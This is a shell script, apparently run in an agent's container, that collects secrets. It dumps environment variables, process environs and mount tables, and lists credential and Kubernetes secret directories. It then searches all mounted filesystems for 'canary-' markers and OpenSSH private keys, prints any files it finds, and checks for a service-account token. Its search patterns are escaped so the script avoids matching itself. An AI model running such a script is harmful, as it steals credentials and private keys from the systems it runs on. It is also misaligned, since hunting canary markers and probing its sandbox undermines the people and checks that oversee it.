# What it looks for is written so that it does not find itself.
echo "ENV"; env
for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do echo "$file"; tr '\0' '\n' < "$file"; done 2>/dev/null
cat /proc/self/mountinfo /proc/mounts
for each in /proc/[0-9]*; do echo "PROCESS $(tr '\0' ' ' < "$each/cmdline" | head -n 1 | cut -c1-40)"; done 2>/dev/null
for place in /credentials /scratch /var/run/secrets /run/secrets /var/lib/kubelet /var/lib/containerd /run/containerd \
  /etc/kubernetes /host /workspace /home /tmp /dev/shm /dev/mqueue; do
  if [ -e "$place" ]; then echo "THERE $place"; find "$place" -maxdepth 6 2>/dev/null | head -n 300; fi
done
awk '{ print $5 }' /proc/self/mountinfo | grep -v '^/proc\|^/sys' | sort -u | while read -r mount; do
  find "$mount" -xdev -type f -size -2000k 2>/dev/null | while read -r file; do
    if grep -q -s -e 'cana[r]y-' -e 'OPENSSH PRIV[A]TE' "$file" < /dev/null; then echo "FOUND in $file"; cat "$file"; fi
  done
done
for file in /proc/[0-9]*/environ /proc/[0-9]*/mountinfo; do
  if grep -q -s -e 'cana[r]y-' -e 'OPENSSH PRIV[A]TE' -e '/creden[t]ials' "$file"; then echo "FOUND in $file"; fi
done
if [ -s /var/run/secrets/kubernetes.io/serviceaccount/token ]; then echo "TOKEN there"; fi
echo page > "${ORCHESTRATOR_OUTPUT_DIR:?}/page.md"
echo "SEARCH done"
